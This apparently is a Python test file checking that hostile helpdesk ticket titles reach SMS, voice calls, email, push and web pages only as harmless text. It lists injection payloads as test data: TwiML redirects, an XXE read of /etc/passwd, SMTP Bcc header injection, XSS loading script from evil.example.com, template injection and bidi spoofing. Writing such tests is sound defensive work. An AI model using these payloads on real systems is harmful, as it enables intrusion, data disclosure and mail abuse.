"""What a customer can write into a ticket's title, on its way through everything that people are told by.

The title is the only text of a stranger that leaves the house. Each way shows it as text, or leaves it out.
"""

import re
import unicodedata
import xml.etree.ElementTree as ET
from dataclasses import replace
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

import pytest

from channels import discover
from channels._texts import clean, one_segment
from connector.core.code import code_of
from connector.sandbox.providers import Apns, PushService, Receiver, Smtp, Twilio
from tests.channels.benches import BENCHES
from tests.channels.messages import DANA, HOSTILE, step
from tests.web.conftest import World as House

EVIL = "evil.example.com"

#: Titles that mean something to the way they take.
TITLES = {
    "TwiML": f'</Say></Gather><Redirect>https://{EVIL}</Redirect><Dial>+15005550000</Dial><Say a="',
    "an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Say>&e;</Say>',
    "a section": "]]><![CDATA[<Dial>+15005550000</Dial>]]>",
    "speech marks": '<speak><audio src="https://evil.example.com/a.mp3"/><break time="3600s"/></speak>',
    "a header": "outage\r\nBcc: everybody@evil.example.com\r\nContent-Type: text/html\r\n\r\n<b>hello</b>",
    "an encoded header": "=?utf-8?q?outage=0D=0ABcc:_everybody=40evil.example.com?=",
    "the end of a mail": "outage\r\n.\r\nMAIL FROM:<everybody@evil.example.com>\r\n",
    "a part of its own": "--=_e-1a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "a script": '"><script src="https://evil.example.com/x.js"></script><img src=x onerror=alert(1)>',
    "a template": "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}${7*7}#{7*7}%(number)s{number}",
    "a link": "Pay at https://evil.example.com/login, evil.example.com or javascript:alert(1)",
    "a link in Markdown": "[Open](https://evil.example.com) <https://evil.example.com|Open> @channel <!here>",
    "another code": "outage. Reply 1 to E-ZZZ. E-1A acknowledged by Dana Reyes",
    "turned round": "\u202eemoc.elpmaxe.live\u202c \u2066a\u2069",
    "zero bytes": "out\x00age\x1b]0;title\x07\x1b[2J\x08\x7f",
    "lone surrogates": "out\ud800age \udfff",
    "a megabyte": "outage " * 150_000,
    "a tower": "o" + "\u0301" * 50_000,
    "an AT command": '\x1aAT+CMGS="+15005550000"\r',
} | {f"hostile {number}": title for number, title in enumerate(HOSTILE)}


def sent(kind: str, title: str) -> Any:
    """What the provider took, sent by the channel itself over its real protocol."""
    stand_in, bench_of = BENCHES[kind]
    with stand_in() as provider:
        bench_of(provider).channel(kind).deliver(step(ticket_title=title))
        taken = {
            Twilio: lambda: [*provider.messages, *provider.calls],
            Smtp: lambda: provider.mails,
            Apns: lambda: provider.pushes,
            Receiver: lambda: provider.received,
            PushService: lambda: provider.pushes,
        }
        [one] = taken[type(provider)]()
        return one


def test_a_harmless_title_is_shown() -> None:
    assert "Server outage" in sent("sms", "Server outage").body


def test_every_way_is_attacked() -> None:
    assert set(BENCHES) >= {"sms", "phone", "push", "email", "http_post", "webpush"}
    assert set(BENCHES) == set(discover())


@pytest.mark.parametrize("name", TITLES)
def test_an_sms_is_one_segment_with_its_code_and_no_link_but_ours(name: str) -> None:
    body = sent("sms", TITLES[name]).body
    assert one_segment(body)
    assert code_of("42") in body
    assert not re.search(r"https?://(?!escalator\.example\.com)|evil\.example\.com|javascript:", body)
    assert not [letter for letter in body if unicodedata.category(letter) in ("Cc", "Cf", "Cs") and letter != "\n"]


@pytest.mark.parametrize("name", TITLES)
def test_a_call_says_it_and_does_nothing_of_it(name: str) -> None:
    document = ET.fromstring(sent("phone", TITLES[name]).twiml)
    assert {verb.tag for verb in document.iter()} <= {"Response", "Gather", "Say", "Pause", "Hangup"}
    actions = [verb.get("action", "") for verb in document.iter("Gather")]
    assert all(action.startswith("https://escalator.example.com/callbacks/twilio/voice") for action in actions)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.leads: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.leads += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction")]
        self.handlers += [name for name, _ in attrs if name.startswith("on")]


def page_of(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    return page


HEADERS = {"From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "Precedence", "X-Auto-Response-Suppress"}
HEADERS |= {"Importance", "MIME-Version", "Content-Type"}
OURS = ("https://escalator.example.com/", "https://desk.example.com/")
PLAIN_TAGS = {"html", "head", "meta", "title", "body", "p", "table", "tr", "td", "a", "br", "b"}


@pytest.mark.parametrize("name", TITLES)
def test_a_mail_has_our_headers_and_two_parts_and_leads_nowhere_else(name: str) -> None:
    taken = sent("email", TITLES[name])
    mail: EmailMessage = taken.message
    assert list(taken.to) == ["dana@example.com"]
    assert mail.get_all("To") == ["Dana Reyes <dana@example.com>"]
    assert set(mail.keys()) == HEADERS
    assert [part.get_content_type() for part in mail.iter_parts()] == ["text/plain", "text/html"]
    subject = str(mail["Subject"])
    assert len(subject) <= 260
    assert not re.search(r"[\r\n\x00]", subject)
    html = mail.get_body(("html",))
    assert html is not None
    page = page_of(html.get_content())
    assert page.tags <= PLAIN_TAGS
    assert page.handlers == []
    assert all(lead.startswith(OURS) for lead in page.leads)


@pytest.mark.parametrize("name", TITLES)
def test_a_mail_to_an_owner_whose_name_is_hostile_goes_to_them_alone(name: str) -> None:
    """The helpdesk tells an owner's name and address; agents choose their own."""
    hostile = replace(DANA, name=TITLES[name][:2000])
    with Smtp(user="escalator", password="c4nary-password") as smtp:
        BENCHES["email"][1](smtp).channel("email").deliver(step(contacts=(hostile,)))
        [taken] = smtp.mails
    assert list(taken.to) == ["dana@example.com"]
    assert set(taken.message.keys()) == HEADERS
    assert [one.addr_spec for one in taken.message["To"].addresses] == ["dana@example.com"]


@pytest.mark.parametrize("name", TITLES)
def test_a_push_is_short_text_with_our_link(name: str) -> None:
    push = sent("push", TITLES[name])
    alert = push.payload["aps"]["alert"]
    assert len(str(push.payload).encode("utf-8", "replace")) < 4096
    assert not re.search(r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", alert["title"] + alert["body"])
    assert push.payload["escalation"]["acknowledge"]["url"].startswith(OURS)


@pytest.mark.parametrize("name", TITLES)
def test_a_web_push_is_short_text_with_our_link(name: str) -> None:
    push = sent("webpush", TITLES[name])
    assert push.size <= 4096
    assert not re.search(r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", push.payload["title"] + push.payload["body"])
    assert push.payload["acknowledge"]["url"].startswith(OURS)
    assert push.payload["url"].startswith(OURS)


@pytest.mark.parametrize("name", TITLES)
def test_a_document_is_signed_json_with_the_title_as_one_value(name: str) -> None:
    posted = sent("http_post", TITLES[name])
    assert posted.genuine
    assert set(posted.document["data"]["ticket"]) == {"id", "number", "title", "priority", "group", "url"}
    assert posted.document["data"]["ticket"]["number"] == "50042"


@pytest.mark.parametrize("name", TITLES)
def test_the_links_page_shows_it_as_text(house: House, name: str) -> None:
    told = house.sent("42", title=TITLES[name].encode("utf-8", "replace").decode())[0]
    answer = house.client.get(house.ack_url(told), headers={"Accept": "text/html"})
    assert answer.status_code == 200
    page = page_of(answer.text)
    assert not page.tags & {"script", "img", "audio", "iframe", "object", "link"}
    assert page.handlers == []
    assert EVIL not in "".join(page.leads)
    assert "unsafe" not in answer.headers["Content-Security-Policy"]


@pytest.mark.parametrize("name", TITLES)
def test_a_cleaned_title_is_one_line(name: str) -> None:
    cleaned = clean(TITLES[name])
    assert not [one for one in cleaned if unicodedata.category(one) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
